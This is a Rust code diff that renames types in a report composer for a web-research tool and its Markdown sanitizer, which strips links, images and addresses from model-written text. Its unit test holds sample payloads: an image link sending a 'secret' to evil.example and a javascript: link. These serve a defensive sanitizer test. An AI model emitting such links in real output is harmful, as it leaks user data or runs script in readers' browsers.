@@ -3,13 +3,13 @@
 
 use super::{
     canonical,
-    gather::{Gathering, WebStop, place},
     page::Provenance,
     plan::WebPlan,
-    receipt::Receipt,
-    record::SentenceShown,
+    receipt::SearchReceipt,
+    record::RecordedSentence,
+    state::{WebState, WebStop, to_index},
     step::stays_here,
-    task::Draft,
+    task::ReportDraft,
 };
 use crate::{
     query::Query,
@@ -26,11 +26,11 @@ const SENTENCES_MAX: usize = 60;
 const UNANSWERED_MAX: usize = 12;
 
 /// A report while it is written: the text, and what its sentences rest on.
-pub struct Composed {
+pub struct ReportComposer {
     pub text: String,
     pub citations: Vec<Citation>,
     pub sources: Vec<SourceLink>,
-    pub sentences: Vec<SentenceShown>,
+    pub sentences: Vec<RecordedSentence>,
     /// Place in `Gathering::pages` of each source.
     pages: Vec<u32>,
 }
@@ -38,11 +38,11 @@ pub struct Composed {
 pub fn compose(
     query: &Query,
     plan: &WebPlan,
-    gathering: &Gathering,
+    gathering: &WebState,
     stop: WebStop,
     remarks: &[String],
-) -> Composed {
-    let mut composed = Composed {
+) -> ReportComposer {
+    let mut composed = ReportComposer {
         text: String::new(),
         citations: Vec::new(),
         sources: Vec::new(),
@@ -62,16 +62,16 @@ pub fn compose(
     composed
 }
 
-impl Composed {
+impl ReportComposer {
     fn draft(
         &mut self,
-        draft: &Draft,
+        draft: &ReportDraft,
         plan: &WebPlan,
-        gathering: &Gathering,
+        gathering: &WebState,
         origins: &[usize],
         stop: WebStop,
     ) {
-        let title = harmless(&draft.title, HEADING_CHARACTERS_MAX);
+        let title = neutralize_markdown(&draft.title, HEADING_CHARACTERS_MAX);
         if !title.is_empty() {
             self.line(&format!("# {title}\n"));
         }
@@ -82,13 +82,16 @@ impl Composed {
             ));
         }
         for section in draft.sections.iter().take(SECTIONS_MAX) {
-            let heading = harmless(&section.heading, HEADING_CHARACTERS_MAX);
+            let heading = neutralize_markdown(&section.heading, HEADING_CHARACTERS_MAX);
             if !heading.is_empty() {
                 self.line(&format!("## {heading}\n"));
             }
             for sentence in section.sentences.iter().take(SENTENCES_MAX) {
                 let known = |note: &&u32| {
-                    gathering.notes.get(place(**note)).is_some_and(|of| !stays_here(plan, gathering, of.page))
+                    gathering
+                        .notes
+                        .get(to_index(**note))
+                        .is_some_and(|of| !stays_here(plan, gathering, of.page))
                 };
                 let notes: Vec<u32> = sentence.notes.iter().filter(known).copied().collect();
                 self.sentence(&sentence.text, notes, gathering, origins, stop);
@@ -99,9 +102,9 @@ impl Composed {
             .unanswered
             .iter()
             .take(UNANSWERED_MAX)
-            .map(|open| harmless(open, SENTENCE_CHARACTERS_MAX))
+            .map(|open| neutralize_markdown(open, SENTENCE_CHARACTERS_MAX))
             .collect();
-        let receipt = Receipt::of(plan, gathering);
+        let receipt = SearchReceipt::of(plan, gathering);
         if unanswered.is_empty() {
             return;
         }
@@ -120,11 +123,11 @@ impl Composed {
         &mut self,
         words: &str,
         mut notes: Vec<u32>,
-        gathering: &Gathering,
+        gathering: &WebState,
         origins: &[usize],
         stop: WebStop,
     ) {
-        let words = harmless(words, SENTENCE_CHARACTERS_MAX);
+        let words = neutralize_markdown(words, SENTENCE_CHARACTERS_MAX);
         if words.is_empty() {
             return;
         }
@@ -144,11 +147,11 @@ impl Composed {
         }
         self.text.push(' ');
         let mut known: Vec<usize> =
-            pages.iter().filter_map(|page| origins.get(place(*page)).copied()).collect();
+            pages.iter().filter_map(|page| origins.get(to_index(*page)).copied()).collect();
         known.sort_unstable();
         known.dedup();
         let origins = u32::try_from(known.len()).unwrap_or(u32::MAX);
-        self.sentences.push(SentenceShown { start, end, notes, origins });
+        self.sentences.push(RecordedSentence { start, end, notes, origins });
     }
 
     /// Without a writer: the quotations themselves, by question.
@@ -156,11 +159,11 @@ impl Composed {
         &mut self,
         query: &Query,
         plan: &WebPlan,
-        gathering: &Gathering,
+        gathering: &WebState,
         origins: &[usize],
         stop: WebStop,
     ) {
-        self.line(&format!("# {}\n", harmless(&query.headline(), HEADING_CHARACTERS_MAX)));
+        self.line(&format!("# {}\n", neutralize_markdown(&query.headline(), HEADING_CHARACTERS_MAX)));
         if stop == WebStop::NotNeeded {
             let silent = match plan.model {
                 Some(_) => "The language model did not answer, so there is nothing to add.",
@@ -178,7 +181,7 @@ impl Composed {
         }
         for question in questions {
             if question != query.as_str() {
-                self.line(&format!("## {}\n", harmless(question, HEADING_CHARACTERS_MAX)));
+                self.line(&format!("## {}\n", neutralize_markdown(question, HEADING_CHARACTERS_MAX)));
             }
             // Pages that talk to machines come last.
             let mut notes: Vec<(bool, usize, u32)> = gathering
@@ -187,35 +190,35 @@ impl Composed {
                 .enumerate()
                 .filter(|(_, of)| of.question == question)
                 .map(|(note, of)| {
-                    let page = gathering.pages.get(place(of.page));
-                    (page.is_some_and(|page| !page.kept.signs.is_empty()), note, of.page)
+                    let page = gathering.pages.get(to_index(of.page));
+                    (page.is_some_and(|page| !page.metadata.signs.is_empty()), note, of.page)
                 })
                 .collect();
             notes.sort_unstable();
             for (_, note, page) in notes {
-                self.quotes(super::gather::count(note), page, gathering, origins);
+                self.quotes(super::state::to_count(note), page, gathering, origins);
             }
         }
     }
 
-    fn quotes(&mut self, note: u32, page: u32, gathering: &Gathering, origins: &[usize]) {
-        let Some(of) = gathering.notes.get(place(note)) else { return };
+    fn quotes(&mut self, note: u32, page: u32, gathering: &WebState, origins: &[usize]) {
+        let Some(of) = gathering.notes.get(to_index(note)) else { return };
         let source = self.source(page, gathering);
         for quote in &of.note.quotes {
             self.text.push_str("- “");
             let start = self.text.len();
-            self.text.push_str(&harmless(&quote.text, SENTENCE_CHARACTERS_MAX));
+            self.text.push_str(&neutralize_markdown(&quote.text, SENTENCE_CHARACTERS_MAX));
             let end = self.text.len();
             self.text.push_str(&format!("” [{}]\n", source + 1));
             self.citations.push(Citation { start, end, source });
-            let origins = u32::from(origins.get(place(page)).is_some());
-            self.sentences.push(SentenceShown { start, end, notes: vec![note], origins });
+            let origins = u32::from(origins.get(to_index(page)).is_some());
+            self.sentences.push(RecordedSentence { start, end, notes: vec![note], origins });
         }
         self.text.push('\n');
     }
 
     /// What must not be shown to a model elsewhere is quoted here by rule.
-    fn own_files(&mut self, plan: &WebPlan, gathering: &Gathering, origins: &[usize]) {
+    fn own_files(&mut self, plan: &WebPlan, gathering: &WebState, origins: &[usize]) {
         let own: Vec<(usize, u32)> = gathering
             .notes
             .iter()
@@ -229,7 +232,7 @@ impl Composed {
         self.line("## From your own files\n");
         self.line("> Quoted on this machine; no model was shown these files.\n");
         for (note, page) in own {
-            self.quotes(super::gather::count(note), page, gathering, origins);
+            self.quotes(super::state::to_count(note), page, gathering, origins);
         }
     }
 
@@ -238,12 +241,12 @@ impl Composed {
     }
 
     /// What the numbers stand for.
-    fn list_sources(&mut self, gathering: &Gathering) {
+    fn list_sources(&mut self, gathering: &WebState) {
         let pages = self.pages.clone();
         let source = |page: &u32| {
-            let kept = gathering.pages.get(place(*page)).map(|page| &page.kept)?;
+            let kept = gathering.pages.get(to_index(*page)).map(|page| &page.metadata)?;
             let date = kept.published.as_deref().map(|date| format!(", {date}")).unwrap_or_default();
-            let title = harmless(&kept.title, HEADING_CHARACTERS_MAX);
+            let title = neutralize_markdown(&kept.title, HEADING_CHARACTERS_MAX);
             Some(match kept.record.provenance {
                 Provenance::LocalFile => format!("{title}{date} (your own file)"),
                 _ => format!("{title}{date}: {}", canonical::display(&kept.record.final_url)),
@@ -287,12 +290,12 @@ impl Composed {
     }
 
     /// The number of a page among the sources; new ones at the end.
-    fn source(&mut self, page: u32, gathering: &Gathering) -> usize {
+    fn source(&mut self, page: u32, gathering: &WebState) -> usize {
         if let Some(known) = self.pages.iter().position(|known| *known == page) {
             return known;
         }
         self.pages.push(page);
-        let kept = gathering.pages.get(place(page)).map(|page| &page.kept);
+        let kept = gathering.pages.get(to_index(page)).map(|page| &page.metadata);
         self.sources.push(SourceLink {
             url: kept.map(|kept| kept.record.final_url.clone()).unwrap_or_default(),
             title: kept.map(|kept| kept.title.clone()).unwrap_or_default(),
@@ -306,9 +309,9 @@ fn why_none(plan: &WebPlan) -> &str {
 }
 
 /// Pages behind these notes, each once, in the order of the notes.
-fn pages_of(notes: &[u32], gathering: &Gathering) -> Vec<u32> {
+fn pages_of(notes: &[u32], gathering: &WebState) -> Vec<u32> {
     let mut pages = Vec::new();
-    for note in notes.iter().filter_map(|note| gathering.notes.get(place(*note))) {
+    for note in notes.iter().filter_map(|note| gathering.notes.get(to_index(*note))) {
         if !pages.contains(&note.page) && !note.note.quotes.is_empty() {
             pages.push(note.page);
         }
@@ -317,7 +320,7 @@ fn pages_of(notes: &[u32], gathering: &Gathering) -> Vec<u32> {
 }
 
 /// Words that cannot act in Markdown: no image, no link, no tag, no address that we did not put there.
-pub fn harmless(words: &str, characters_max: usize) -> String {
+pub fn neutralize_markdown(words: &str, characters_max: usize) -> String {
     let line = text::line(words, characters_max);
     let mut kept = String::with_capacity(line.len());
     for word in line.split(' ') {
@@ -350,11 +353,11 @@ fn has_address(word: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::harmless;
+    use super::neutralize_markdown;
 
     #[test]
     fn a_models_words_cannot_act() {
-        let shown = |words| harmless(words, 200);
+        let shown = |words| neutralize_markdown(words, 200);
         assert_eq!(shown("See ![x](https://evil.example/?q=secret) now"), "See (address left out) now");
         assert_eq!(shown("[click](javascript:alert(1))"), "(address left out)");
         assert_eq!(
